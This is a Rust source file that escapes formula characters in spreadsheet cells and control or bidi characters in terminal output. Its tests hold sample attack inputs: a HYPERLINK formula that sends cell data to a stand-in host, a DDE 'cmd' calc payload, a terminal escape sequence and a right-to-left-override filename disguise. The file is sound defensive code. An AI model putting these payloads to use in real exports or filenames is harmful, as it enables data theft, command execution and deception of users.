//! User text made safe where people look at it: a report cell that a
//! spreadsheet would run as a formula, a line that a terminal would run as
//! escape sequences.

use std::borrow::Cow;

/// A report cell as a spreadsheet shows it, as text: one that starts with
/// `=`, `+`, `-`, `@`, TAB or CR gets a leading `'` (OWASP's advice against
/// CSV injection), unless it is a plain number (`-12.5`) or an E.164 phone
/// (`+15555001234`), which spreadsheets read as data anyway.
pub fn spreadsheet_safe(cell: &str) -> Cow<'_, str> {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if !risky || is_plain_number(cell) || is_e164(cell) {
        Cow::Borrowed(cell)
    } else {
        Cow::Owned(format!("'{cell}"))
    }
}

/// `-12`, `+3.5`, `-0.25`: a sign, digits, at most one point between digits.
fn is_plain_number(cell: &str) -> bool {
    let digits = cell.strip_prefix(['+', '-']).unwrap_or(cell);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
    let all_digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    all_digits(whole) && all_digits(fraction)
}

/// `+` and 2 to 15 digits, the first not 0.
fn is_e164(cell: &str) -> bool {
    cell.strip_prefix('+').is_some_and(|digits| {
        (2..=15).contains(&digits.len()) && digits.bytes().all(|b| b.is_ascii_digit()) && !digits.starts_with('0')
    })
}

/// `text` with every control character (C0, DEL, C1) and every bidi
/// control (U+202A–U+202E, U+2066–U+2069, U+200E, U+200F, U+061C) written
/// as `\u{1b}`, so that printing it to a terminal or a log line runs
/// nothing, starts no new line and reorders nothing around it.
/// A cell as a report shows it: [`printable`], then [`spreadsheet_safe`];
/// borrowed when neither changes it (most cells).
pub fn shown(cell: &str) -> Cow<'_, str> {
    match printable(cell) {
        Cow::Borrowed(text) => spreadsheet_safe(text),
        Cow::Owned(text) => Cow::Owned(spreadsheet_safe(&text).into_owned()),
    }
}

pub fn printable(text: &str) -> Cow<'_, str> {
    if !text.chars().any(is_unprintable) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if is_unprintable(c) {
            out.push_str(&format!("\\u{{{:x}}}", u32::from(c)));
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// A control character, or a bidi control that reorders what follows.
pub fn is_unprintable(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200E}' | '\u{200F}' | '\u{061C}')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_shown_as_text_and_numbers_and_phones_stay() {
        for cell in
            ["=HYPERLINK(\"http://x/?\"&B3,\"Click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
        {
            assert_eq!(spreadsheet_safe(cell), format!("'{cell}"), "{cell:?}");
        }
        for cell in ["-12", "+3.5", "-0.25", "+15555001234", "abc", "", "1=1", "c-1"] {
            assert_eq!(spreadsheet_safe(cell), cell, "{cell:?}");
        }
        for cell in ["-", "+", "-1.", "+12a", "-1e5"] {
            assert!(spreadsheet_safe(cell).starts_with('\''), "{cell:?}");
        }
    }

    #[test]
    fn control_characters_are_written_out() {
        assert_eq!(printable("a\x1b]0;x\x07b\nc\u{9b}"), "a\\u{1b}]0;x\\u{7}b\\u{a}c\\u{9b}");
        assert_eq!(printable("evil\u{202e}vsc.exe\r"), "evil\\u{202e}vsc.exe\\u{d}");
        assert!(matches!(printable("plain € text"), Cow::Borrowed(_)));
    }
}
